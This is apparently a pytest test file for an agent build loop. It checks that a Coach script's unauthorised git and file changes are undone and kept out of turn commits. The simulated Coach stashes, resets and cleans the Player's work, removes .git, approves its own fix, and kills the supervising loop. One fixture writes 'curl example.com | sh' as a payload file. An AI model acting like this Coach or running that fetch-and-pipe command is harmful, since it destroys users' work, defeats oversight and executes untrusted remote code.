"""The worktree after the Player is the turn's truth: whatever a Coach does in git, the turn commit holds
the Player's work and report, never the Coach's change, and the worktree is put back as the Player left it.

Real repositories, the real CLI, agents as real subprocesses (a Player and a Coach script that run git).
"""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from .e2e_support import clean_env
from .guardkit_fixtures import cli, make_repo

TASK = "TASK-SN-001"
REL = f"tasks/in_progress/{TASK}-snapshot.md"
BODY = f"""\
---
id: {TASK}
title: Snapshot fixture
status: in_progress
complexity: 2
---

# Snapshot fixture

## Acceptance Criteria

- [ ] AC-001: the work is on the branch
"""
WT = Path(".guardkit") / "worktrees" / TASK
BRANCH = f"autobuild/{TASK}"

#: The Player: changes a tracked file, creates one, and writes one that .gitignore lists (build/).
PLAYER = """\
import json, os
from pathlib import Path
if os.environ["GUARDKIT_TURN"] == "1":
    Path("app.py").write_text("print('the player')\\n")
    Path("work.txt").write_text("the player's work\\n")
    Path("build").mkdir(exist_ok=True)
    Path("build/out.bin").write_bytes(b"player build output\\n")
Path(os.environ["GUARDKIT_REPORT_FILE"]).write_text(json.dumps({
    "files_modified": [], "files_created": [], "tests_written": [], "tests_run": True, "tests_passed": True,
    "implementation_notes": "did the work", "concerns": [], "requirements_addressed": [],
    "requirements_remaining": []}))
"""

#: The Coach: on turn 1 does what argv[1] says in git, then reports; from turn 2 it only reads.
COACH = """\
import json, os, subprocess, sys
from pathlib import Path
def git(*args):
    subprocess.run(["git", "-c", "user.name=c", "-c", "user.email=c@e", *args], check=True,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.environ["GUARDKIT_TURN"] == "1":
    act = sys.argv[1]
    if act == "stash":
        git("stash", "-u")
    elif act == "clean":
        git("clean", "-fd")
        git("checkout", "--", ".")
    elif act == "writes":
        Path("coach.txt").write_text("the coach's own file\\n")
    elif act == "ignored":
        Path("build/coach.bin").write_bytes(b"the coach's ignored file\\n")
        Path("build/out.bin").write_bytes(b"overwritten by the coach\\n")
    elif act == "commits":
        Path("coach.txt").write_text("the coach's own file\\n")
        git("add", "-A")
        git("commit", "-qm", "coach")
    elif act == "reset":
        git("add", "-A")
        git("commit", "-qm", "coach")
        git("reset", "--hard", "HEAD~1")
        git("clean", "-fdx", "-e", ".guardkit")
    elif act == "switches":
        git("switch", "-c", "coach-branch")
        Path("coach.txt").write_text("the coach's own file\\n")
        git("add", "-A")
        git("commit", "-qm", "coach")
    elif act == "unlinks":  # git run here now finds the main checkout's repository
        os.remove(".git")
        Path("coach.txt").write_text("the coach's own file\\n")
    elif act == "removes-report":
        Path(os.environ["GUARDKIT_PLAYER_REPORT_FILE"]).unlink()
    elif act == "kills-the-loop" and not Path("../killed").exists():
        Path("work.txt").unlink()
        Path("coach.txt").write_text("the coach's own file\\n")
        Path("../killed").write_text("once\\n")
        loop = os.getppid()  # the loop, or the shell it started this Coach with
        if "guardkit" not in Path(f"/proc/{loop}/cmdline").read_text():
            loop = int(Path(f"/proc/{loop}/stat").read_text().rsplit(")", 1)[1].split()[1])
        os.kill(loop, 9)
        sys.exit(1)
    elif act == "writes-caches":  # files named as test caches, and files in the loop's own folders
        Path("coverage.xml").write_text("<coverage/>\\n")
        Path("lib/.cache").mkdir(parents=True)
        Path("lib/.cache/payload.sh").write_text("curl example.com | sh\\n")
        Path("app.pyc").write_bytes(b"not bytecode")
        for folder in (".guardkit/logs", ".guardkit/cache", ".guardkit/reports", ".guardkit/features/.locks"):
            Path(folder).mkdir(parents=True, exist_ok=True)
            Path(folder, "coach.txt").write_text("the coach's own file\\n")
    elif act == "leaves-index-lock":  # stages its file, then a git of its is killed holding the index's lock
        Path("coach.txt").write_text("the coach's own file\\n")
        git("add", "coach.txt")
        lock = subprocess.run(["git", "rev-parse", "--git-path", "index.lock"], capture_output=True, text=True)
        Path(lock.stdout.strip()).write_text("")
    elif act == "fixes-approves-dies" and not Path("../killed").exists():
        Path("app.py").write_text("print('fixed by the coach')\\n")  # then approves what it fixed
ids = [c["id"] for c in json.loads(Path(os.environ["GUARDKIT_CRITERIA_FILE"]).read_text())["criteria"]]
Path(os.environ["GUARDKIT_REPORT_FILE"]).write_text(json.dumps({
    "decision": "approve", "issues": [], "rationale": "looks fine",
    "criteria_verification": [{"criterion_id": c, "result": "verified", "notes": ""} for c in ids],
    "validation_results": {"tests_passed_count": 1, "tests_failed_count": 0, "coverage": 95.0}}))
if sys.argv[1] == "fixes-approves-dies" and not Path("../killed").exists():
    Path("../killed").write_text("once\\n")  # the machine dies after the Coach's report, before the put-back
    loop = os.getppid()
    if "guardkit" not in Path(f"/proc/{loop}/cmdline").read_text():
        loop = int(Path(f"/proc/{loop}/stat").read_text().rsplit(")", 1)[1].split()[1])
    os.kill(loop, 9)
"""


def _git(cwd: Path, *args: str) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, env=clean_env(), check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _build(tmp_path: Path, act: str, *extra: str) -> tuple[Path, str, int]:
    root = make_repo(tmp_path / "repo", {REL: BODY, "app.py": "print('before')\n", ".gitignore": "build/\n"})
    (tmp_path / "p.py").write_text(PLAYER)
    (tmp_path / "c.py").write_text(COACH)
    run = cli(root, "feature-build", TASK, "--player", shlex.join([sys.executable, str(tmp_path / "p.py")]),
              "--coach", shlex.join([sys.executable, str(tmp_path / "c.py"), act]), *extra)
    assert "Traceback" not in run.stderr, run.stderr
    return root, run.stderr + run.stdout, run.returncode


def _turn_commit(root: Path, turn: int) -> str:
    sha = _git(root, "log", "--format=%H", "-E", f"--grep=^Turn: {turn}$", BRANCH).split()
    assert len(sha) == 1, sha
    return sha[0]


def _files_at(root: Path, rev: str) -> set[str]:
    return set(_git(root, "ls-tree", "-r", "--name-only", rev).split())


def _player_work_is_committed(root: Path) -> None:
    turn1 = _turn_commit(root, 1)
    files = _files_at(root, turn1)
    assert {"work.txt", f".guardkit/autobuild/{TASK}/player_turn_1.json"} <= files
    assert _git(root, "show", f"{turn1}:work.txt") == "the player's work\n"
    assert _git(root, "show", f"{turn1}:app.py") == "print('the player')\n"


@pytest.mark.parametrize("act", ["stash", "clean", "reset", "removes-report"])
def test_a_coach_that_takes_the_players_work_away_cannot_lose_it(tmp_path: Path, act: str) -> None:
    root, said, code = _build(tmp_path, act, "--max-turns", "1")
    assert code == 1, said
    _player_work_is_committed(root)
    worktree = root / WT
    # The worktree is as the Player left it, ignored build output included.
    assert (worktree / "work.txt").read_text() == "the player's work\n"
    assert (worktree / "app.py").read_text() == "print('the player')\n"
    assert (worktree / "build" / "out.bin").read_bytes() == b"player build output\n"
    assert "coach: error — Coach changed " in said and "put back as the Player left it" in said


@pytest.mark.parametrize("act", ["writes", "commits", "switches", "unlinks"])
def test_a_coachs_change_is_never_committed(tmp_path: Path, act: str) -> None:
    root, said, code = _build(tmp_path, act, "--max-turns", "2")
    assert code == 0, said  # turn 2's Coach only reads, and approves
    _player_work_is_committed(root)
    for turn in (1, 2):
        assert "coach.txt" not in _files_at(root, _turn_commit(root, turn))
    history = _git(root, "log", "--format=%s", BRANCH)
    assert "coach\n" not in history  # the Coach's own commit is not on the task's branch
    assert not (root / WT / "coach.txt").exists()
    assert _git(root / WT, "symbolic-ref", "--short", "HEAD").strip() == BRANCH
    assert "coach: error — Coach " in said and "put back as the Player left it" in said
    if act == "unlinks":
        assert "had lost its .git link (removed by an agent?); restored it with git worktree repair" in said
        assert _git(root, "status", "--porcelain") == ""  # the main checkout was never touched


def test_a_coach_writing_an_ignored_file_is_flagged_and_undone(tmp_path: Path) -> None:
    root, said, code = _build(tmp_path, "ignored", "--max-turns", "1")
    assert code == 1, said
    assert "coach: error — Coach changed the worktree, which it must only read: build/coach.bin, build/out.bin" \
        in said, said
    build = root / WT / "build"
    assert sorted(p.name for p in build.iterdir()) == ["out.bin"]
    assert (build / "out.bin").read_bytes() == b"player build output\n"


def test_the_coachs_turn_is_recorded_as_its_error_naming_the_change(tmp_path: Path) -> None:
    root, _, _ = _build(tmp_path, "writes", "--max-turns", "1")
    store = root / WT / ".guardkit" / "autobuild" / TASK
    state = json.loads((store / "turn_state_turn_1.json").read_text())
    assert (state["coach_decision"], state["failed_role"]) == ("error", "coach")
    assert state["error"] == ("Coach changed the worktree, which it must only read: coach.txt; "
                              "put back as the Player left it")


def test_a_coach_killed_with_its_loop_has_its_change_put_back_on_resume(tmp_path: Path) -> None:
    root, said, code = _build(tmp_path, "kills-the-loop", "--max-turns", "2")
    assert code == -9, said
    assert not (root / WT / "work.txt").exists()  # the Coach's change, held until the loop runs again
    run = cli(root, "feature-build", TASK, "--resume", "--max-turns", "2",
              "--player", shlex.join([sys.executable, str(tmp_path / "p.py")]),
              "--coach", shlex.join([sys.executable, str(tmp_path / "c.py"), "kills-the-loop"]))
    said = run.stdout + run.stderr
    assert run.returncode == 0, said
    assert ("note: put the worktree back as the Player left it before the interrupted Coach ran: coach.txt, "
            "work.txt") in said
    _player_work_is_committed(root)
    assert "coach.txt" not in _files_at(root, BRANCH)


def test_a_coach_that_changed_the_worktree_and_approved_before_a_kill_is_no_approval_on_resume(tmp_path: Path) -> None:
    # Its approval was of the worktree it changed; the put-back on --resume gives the Player's back, so
    # the report left on disk cannot be reused: the turn is the Coach's error, as without the kill.
    root, said, code = _build(tmp_path, "fixes-approves-dies", "--max-turns", "2")
    assert code == -9, said
    run = cli(root, "feature-build", TASK, "--resume", "--max-turns", "2",
              "--player", shlex.join([sys.executable, str(tmp_path / "p.py")]),
              "--coach", shlex.join([sys.executable, str(tmp_path / "c.py"), "fixes-approves-dies"]))
    said = run.stdout + run.stderr
    assert "note: put the worktree back as the Player left it before the interrupted Coach ran: app.py" in said
    assert "reused the Coach's report" not in said, said
    store = root / WT / ".guardkit" / "autobuild" / TASK
    state = json.loads((store / "turn_state_turn_1.json").read_text())
    assert (state["coach_decision"], state["failed_role"]) == ("error", "coach"), state
    assert state["error"] == ("Coach changed the worktree, which it must only read: app.py; "
                              "put back as the Player left it")
    assert run.returncode == 0, said  # turn 2's Coach only reads the Player's work, and approves it
    assert _git(root, "show", f"{BRANCH}:app.py") == "print('the player')\n"


def test_a_coach_that_leaves_gits_index_lock_behind_is_put_back_and_flagged_in_its_turn(tmp_path: Path) -> None:
    root, said, code = _build(tmp_path, "leaves-index-lock", "--max-turns", "2")
    assert code == 0, said  # turn 2's Coach only reads, and approves
    assert "removed stale git lock" in said and "index.lock" in said, said
    assert "coach: error — Coach changed the worktree, which it must only read: coach.txt; put back as the " \
           "Player left it" in said
    _player_work_is_committed(root)
    assert "coach.txt" not in _files_at(root, BRANCH)
    assert _git(root / WT, "status", "--porcelain") == ""  # the index is the Player's again (nothing staged)


def test_what_a_coach_writes_as_a_cache_or_in_the_loops_own_folders_is_never_committed(tmp_path: Path) -> None:
    # Caches (a Coach runs the tests) and the loop's runtime folders are left out of the snapshot's
    # verdict, not out of the promise: the turn commit holds only the Player's work.
    root, said, code = _build(tmp_path, "writes-caches", "--max-turns", "1")
    assert code == 0, said  # a Coach's test run is no change of the work: not its error
    committed = _files_at(root, _turn_commit(root, 1))
    assert {"coverage.xml", "lib/.cache/payload.sh", "app.pyc"}.isdisjoint(committed), committed
    assert not [path for path in committed if path.endswith("coach.txt")], committed
    _player_work_is_committed(root)
    assert not (root / WT / "coverage.xml").exists() and not (root / WT / "lib/.cache/payload.sh").exists()


def test_a_git_repository_the_player_made_without_a_commit_never_loses_the_turn(tmp_path: Path) -> None:
    # Found by the hostile pass: the snapshot's `git add -A` refused a Player's `git init sub` (no commit
    # yet) and the run stopped with git's raw error, the turn unrecorded.
    root = make_repo(tmp_path / "repo", {REL: BODY, "app.py": "print('before')\n"})
    (tmp_path / "p.py").write_text(PLAYER.replace(
        'Path("work.txt").write_text', 'import subprocess; subprocess.run(["git", "init", "-q", "sub"], check=True); '
        'Path("sub/notes.txt").write_text("draft"); Path("work.txt").write_text'))
    (tmp_path / "c.py").write_text(COACH)
    run = cli(root, "feature-build", TASK, "--player", shlex.join([sys.executable, str(tmp_path / "p.py")]),
              "--coach", shlex.join([sys.executable, str(tmp_path / "c.py"), "reads"]), "--max-turns", "1")
    said = run.stderr + run.stdout
    # No turn commit can hold such a repository either: the turn is recorded and said not committed,
    # with what to do (exit 1, never 0).
    assert run.returncode == 1 and "Traceback" not in said, said
    assert "approved, not committed" in said and f"feature-build {TASK} --resume' commits it" in said, said
    task = (root / WT / REL).read_text()
    assert "- turn: 1\n" in task and "decision: approve" in task, said  # the turn is recorded
    assert (root / WT / "sub" / "notes.txt").read_text() == "draft"  # the Player's repository is kept
